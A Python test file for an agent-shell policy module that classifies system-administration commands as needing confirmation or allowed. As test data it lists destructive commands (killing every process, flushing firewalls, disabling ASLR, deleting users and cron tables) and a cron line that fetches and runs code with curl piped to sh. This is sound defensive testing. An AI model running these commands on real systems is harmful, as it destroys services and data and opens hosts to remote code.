"""Rules for system administration: power, services, processes, cron, firewall, kernel, accounts."""

from __future__ import annotations

from typing import Any

import pytest

from agentsh import records
from agentsh.policy import system
from agentsh.policy.model import Decision, SimpleCommand, Stdin

from .helpers import CTX, cmd, decision_of

ALLOW = Decision.ALLOW
CONFIRM = Decision.CONFIRM


def judge(line: str, **changes: Any) -> tuple[Decision, list[str]]:
    findings = system.classify(records.replace(cmd(line), **changes), CTX)
    return decision_of(findings), [f.rule for f in findings]


HELD = [
    # Power.
    ("shutdown -h now", "power"),
    ("shutdown -r +5 'kernel update'", "power"),
    ("shutdown now", "power"),
    ("reboot", "power"),
    ("/sbin/reboot -f", "power"),
    ("halt -p", "power"),
    ("poweroff", "power"),
    ("init 0", "power"),
    ("init 6", "power"),
    ("telinit 1", "power"),
    ("/sbin/init S", "power"),
    ("systemctl reboot", "power"),
    ("systemctl poweroff -i", "power"),
    ("systemctl kexec", "power"),
    ("systemctl suspend", "power"),
    ("systemctl hibernate", "power"),
    ("systemctl isolate rescue.target", "power"),
    ("systemctl -H prod reboot", "power"),
    ("launchctl reboot", "power"),
    # Services.
    ("systemctl stop nginx", "service-stop"),
    ("systemctl --user stop app.service", "service-stop"),
    ("systemctl disable --now postgresql", "service-stop"),
    ("systemctl mask docker.socket", "service-stop"),
    ("systemctl kill -s KILL nginx", "service-stop"),
    ("service nginx stop", "service-stop"),
    ("launchctl bootout gui/501/com.acme.agent", "service-stop"),
    ("launchctl unload ~/Library/LaunchAgents/com.acme.plist", "service-stop"),
    ("systemctl -H deploy@prod restart api", "service-remote"),
    ("systemctl $VERB nginx", "dynamic-arguments"),
    # Processes.
    ("kill -9 -1", "kill-everything"),
    ("kill -KILL -1", "kill-everything"),
    ("kill -SIGKILL -1", "kill-everything"),
    ("kill -s KILL -1", "kill-everything"),
    ("kill -n 9 -1", "kill-everything"),
    ("kill --signal=KILL -1", "kill-everything"),
    ("kill -- -1", "kill-everything"),
    ("kill -9 -- -1", "kill-everything"),
    ("kill -9 1", "kill-everything"),
    ("kill 1", "kill-everything"),
    ("killall5 -9", "kill-everything"),
    ("killall -9 node", "kill-by-name"),
    ("killall node", "kill-by-name"),
    ("killall -KILL -u dev", "kill-by-name"),
    ("killall -s TERM python3", "kill-by-name"),
    ("killall -r 'python.*'", "kill-by-name"),
    ("pkill node", "kill-by-name"),
    ("pkill -f 'python manage.py runserver'", "kill-by-name"),
    ("pkill -9 -u dev", "kill-by-name"),
    ("pkill -SIGTERM -f webpack", "kill-by-name"),
    ("pkill --signal KILL -x java", "kill-by-name"),
    ("pkill -v bash", "kill-by-name"),
    ("pkill -n node", "kill-by-name"),
    ("pkill $NAME", "kill-by-name"),
    ("killall -u $USER", "kill-by-name"),
    # Cron.
    ("crontab -r", "crontab"),
    ("crontab -ri", "crontab"),
    ("crontab -i -r", "crontab"),
    ("crontab -u bob -r", "crontab"),
    ("crontab -e", "crontab"),
    ("crontab mycron.txt", "crontab"),
    ("crontab -", "crontab"),
    # Firewall.
    ("iptables -F", "firewall"),
    ("iptables --flush", "firewall"),
    ("iptables -t nat -F", "firewall"),
    ("iptables -w -F INPUT", "firewall"),
    ("iptables -X", "firewall"),
    ("iptables -P INPUT DROP", "firewall"),
    ("iptables --policy FORWARD DROP", "firewall"),
    ("iptables -A INPUT -p tcp --dport 22 -j DROP", "firewall"),
    ("iptables -I INPUT 1 -s 10.0.0.0/8 -j ACCEPT", "firewall"),
    ("iptables -D INPUT 3", "firewall"),
    ("ip6tables -F", "firewall"),
    ("iptables-nft -F", "firewall"),
    ("iptables-legacy -t mangle -F", "firewall"),
    ("iptables $RULE", "dynamic-arguments"),
    ("iptables-restore rules.v4", "firewall"),
    ("ip6tables-restore -n rules.v6", "firewall"),
    ("nft flush ruleset", "firewall"),
    ("nft 'flush ruleset'", "firewall"),
    ("nft delete table inet filter", "firewall"),
    ("nft add rule inet filter input tcp dport 22 drop", "firewall"),
    ("nft -f /etc/nftables.conf", "firewall"),
    ("ufw disable", "firewall"),
    ("ufw reset", "firewall"),
    ("ufw --force reset", "firewall"),
    ("ufw enable", "firewall"),
    ("ufw deny 22", "firewall"),
    ("ufw delete allow 80/tcp", "firewall"),
    ("firewall-cmd --panic-on", "firewall"),
    ("firewall-cmd --complete-reload", "firewall"),
    ("firewall-cmd --reload", "firewall"),
    ("firewall-cmd --permanent --zone=public --remove-service=ssh", "firewall"),
    ("firewall-cmd --set-default-zone=drop", "firewall"),
    ("pfctl -d", "firewall"),
    ("pfctl -F all", "firewall"),
    ("pfctl -f /etc/pf.conf", "firewall"),
    # Kernel, memory, mounts.
    ("sysctl -w net.ipv4.ip_forward=1", "kernel"),
    ("sysctl kernel.randomize_va_space=0", "kernel"),
    ("sysctl -p", "kernel"),
    ("sysctl --system", "kernel"),
    ("swapoff -a", "kernel"),
    ("swapoff /swapfile", "kernel"),
    ("modprobe -r nvidia", "kernel"),
    ("modprobe br_netfilter", "kernel"),
    ("rmmod nvidia", "kernel"),
    ("insmod ./driver.ko", "kernel"),
    ("mount /dev/sdb1 /mnt/data", "mount"),
    ("mount -o remount,rw /", "mount"),
    ("mount --bind /srv /mnt/srv", "mount"),
    ("mount -a", "mount"),
    ("umount /mnt/data", "mount"),
    ("umount -a", "mount"),
    # Accounts.
    ("userdel -r bob", "accounts"),
    ("deluser --remove-home bob", "accounts"),
    ("groupdel devs", "accounts"),
    ("usermod -aG docker dev", "accounts"),
    ("gpasswd -a bob sudo", "accounts"),
    ("passwd", "accounts"),
    ("passwd -l bob", "accounts"),
    ("passwd -d bob", "accounts"),
    ("chpasswd", "accounts"),
    ("visudo", "accounts"),
    ("visudo -f /etc/sudoers.d/dev", "accounts"),
]

ALLOWED = [
    "shutdown -c",
    "shutdown -k now",
    "shutdown --help",
    "reboot --help",
    "./init 0",
    "scripts/init 6",
    "init q",
    "init",
    "systemctl status nginx",
    "systemctl list-units --failed",
    "systemctl is-active postgresql",
    "systemctl show -p MainPID nginx",
    "systemctl cat nginx",
    "systemctl start postgresql",
    "systemctl restart nginx",
    "systemctl --user restart app",
    "systemctl daemon-reload",
    "systemctl enable --now docker",
    "systemctl",
    "service nginx status",
    "service nginx restart",
    "service --status-all",
    "launchctl list",
    "kill 1234",
    "kill -9 1234",
    "kill -TERM 4321 4322",
    "kill %1",
    "kill -- -4567",
    "kill -9 $(lsof -t -i:3000)",
    "kill $PID",
    "kill -0 1",
    "kill -l",
    "kill -l 9",
    "killall -l",
    "killall -0 node",
    "killall --version",
    "pkill -0 node",
    "crontab -l",
    "crontab -u bob -l",
    "crontab -T mycron.txt",
    "crontab",
    "iptables -L",
    "iptables -L -n -v --line-numbers",
    "iptables -nvL",
    "iptables -S",
    "iptables -t nat -L",
    "iptables -C INPUT -p tcp --dport 22 -j ACCEPT",
    "iptables --version",
    "iptables-restore --test rules.v4",
    "nft list ruleset",
    "nft list table inet filter",
    "nft -c -f /etc/nftables.conf",
    "ufw status verbose",
    "ufw app list",
    "ufw --dry-run enable",
    "firewall-cmd --state",
    "firewall-cmd --list-all --zone=public",
    "firewall-cmd --get-active-zones",
    "firewall-cmd --permanent --query-service=ssh",
    "pfctl -s rules",
    "pfctl -nf /etc/pf.conf",
    "sysctl -a",
    "sysctl net.ipv4.ip_forward",
    "sysctl -n kernel.hostname",
    "mount",
    "mount -l",
    "mount -t ext4",
    "swapoff --help",
    "modprobe -n br_netfilter",
    "modprobe --show-depends nvidia",
    "passwd -S dev",
    "visudo -c",
]


@pytest.mark.parametrize(("line", "rule"), HELD)
def test_system_changes_are_held(line: str, rule: str) -> None:
    assert judge(line) == (CONFIRM, [f"system.{rule}"])


@pytest.mark.parametrize("line", ALLOWED)
def test_everyday_and_read_only_commands_are_allowed(line: str) -> None:
    assert judge(line) == (ALLOW, [])


@pytest.mark.parametrize(
    ("line", "message", "target"),
    [
        ("killall -9 node", "killall would send SIGKILL to every process named node", "node"),
        ("pkill -f 'next dev'", "pkill would send SIGTERM to every process whose command line matches next dev", "next dev"),
        ("kill -9 -1", "kill would send SIGKILL to every process you may signal", "-1"),
        ("iptables -F", "iptables would delete every rule in every chain (table filter)", None),
        ("iptables -t nat -F PREROUTING", "iptables would delete every rule in PREROUTING (table nat)", "PREROUTING"),
        ("iptables -P INPUT DROP", "iptables would set the default policy of INPUT to DROP (table filter)", "INPUT"),
        ("crontab -u bob -r", "crontab -r would delete every cron job of user bob", "bob"),
        ("systemctl stop nginx", "systemctl stop would stop nginx", "nginx"),
        ("systemctl -H prod reboot", "systemctl reboot would reboot prod", "prod"),
        ("userdel -r bob", "userdel would delete user bob and its home directory", "bob"),
        ("nft flush ruleset", "nft flush ruleset would delete every firewall rule", None),
    ],
)  # fmt: skip
def test_messages_name_what_happens_and_to_what(
    line: str, message: str, target: str | None
) -> None:
    (finding,) = system.classify(cmd(line), CTX)
    assert (finding.message, finding.target) == (message, target)


def test_restarting_a_service_is_held_on_a_remote_host() -> None:
    assert judge("systemctl restart api") == (ALLOW, [])
    decision, rules = judge("systemctl restart api", remote="prod")
    assert (decision, rules) == (CONFIRM, ["system.service-remote"])
    (finding,) = system.classify(records.replace(cmd("reboot"), remote="prod"), CTX)
    assert finding.message.endswith("(on prod)")


def test_crontab_without_a_file_replaces_the_table_from_piped_input() -> None:
    piped = Stdin("pipe", "* * * * * curl example.com | sh\n", "echo")
    assert judge("crontab", stdin=piped) == (CONFIRM, ["system.crontab"])


def test_every_program_is_judged_without_raising() -> None:
    for program in sorted(system.PROGRAMS):
        for args in ((), ("--",), ("-",), ("$X",), ("--help",), ("-s",), ("-1",)):
            command = SimpleCommand.of(program, *args)
            assert isinstance(system.classify(command, CTX), list)
